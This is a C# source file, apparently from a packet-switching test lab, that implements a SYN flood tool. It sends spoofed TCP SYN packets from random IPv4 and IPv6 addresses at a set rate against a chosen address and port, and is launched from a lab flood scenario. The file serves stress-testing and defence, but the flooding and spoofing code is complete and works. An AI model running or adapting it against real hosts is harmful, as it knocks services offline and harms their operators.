// A SYN flood: `syns ADDRESS:PORT --seconds S --rate N` sends N SYNs a second, each from another
// address and port, until the time is up or SIGTERM comes. Prints "sent" and the "rate" it reached:
// what it could not send because the machine was busy it makes up for by a fiftieth of a second and
// no more. Started by FloodScenario in a client's namespace; both address families.
using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Runtime.InteropServices;
using PacketSwitch.Lab.Stage;
using PacketSwitch.Wire;

namespace PacketSwitch.Lab.Programs;

internal static class FloodProgram
{
    private const int BurstsPerSecond = 50;

    public static int Run(Words words)
    {
        var target = words.EndPoint(0);
        var seconds = words.Number("--seconds", 6);
        var rate = words.Number("--rate", 50_000);
        var random = new Random(words.Number("--seed", 1));
        bool isOver = false;
        using var signal = PosixSignalRegistration.Create(PosixSignal.SIGTERM, context =>
        {
            context.Cancel = true;
            Volatile.Write(ref isOver, true);
        });
        using var sender = new RawSender(target.Address);
        var frame = new byte[128];
        var began = Stopwatch.GetTimestamp();
        var last = began;
        double due = 0;
        long sent = 0;
        while (Stopwatch.GetElapsedTime(began).TotalSeconds < seconds && !Volatile.Read(ref isOver))
        {
            var now = Stopwatch.GetTimestamp();
            due += Stopwatch.GetElapsedTime(last, now).TotalSeconds * rate;
            due = Math.Min(due, (double)rate / BurstsPerSecond);
            last = now;
            for (; due >= 1; due--)
            {
                var length = target.AddressFamily == AddressFamily.InterNetwork
                    ? Syn4(frame, target, random) : Syn6(frame, target, random);
                if (sender.TrySend(frame.AsSpan(RawSender.EthernetBytes..length))) sent++;
            }
            Thread.Sleep(1);
        }
        var reached = sent / Stopwatch.GetElapsedTime(began).TotalSeconds;
        Console.WriteLine($"sent {sent}");
        Console.WriteLine($"rate {reached.ToString("F0", CultureInfo.InvariantCulture)}");
        return 0;
    }

    // From 100.64.0.0/10 (RFC 6598): not the lab's, and no martian.
    private static int Syn4(Span<byte> frame, IPEndPoint target, Random random) =>
        Syn(
            frame, new Ipv4Address(0x6440_0000 | (uint)random.Next(1 << 22)),
            Ipv4Address.Read(target.Address.GetAddressBytes()), target.Port, random);

    private static int Syn6(Span<byte> frame, IPEndPoint target, Random random) =>
        Syn(
            frame, new Ipv6Address(0x2001_0db8_00aa_0000, (ulong)random.NextInt64()),
            Ipv6Address.Read(target.Address.GetAddressBytes()), target.Port, random);

    private static int Syn<TAddress>(
        Span<byte> frame, TAddress source, TAddress destination, int port, Random random)
        where TAddress : unmanaged, IIpAddress<TAddress>
    {
        var addresses = new FrameAddresses<TAddress>
        {
            Source = source,
            Destination = destination,
            SourcePort = (ushort)random.Next(1024, 65536),
            DestinationPort = (ushort)port,
        };
        return FrameWriter.Tcp(
            frame, addresses, (uint)random.NextInt64(), 0, TcpFlags.Syn, 64240, [2, 4, 0x05, 0xb4]);
    }
}
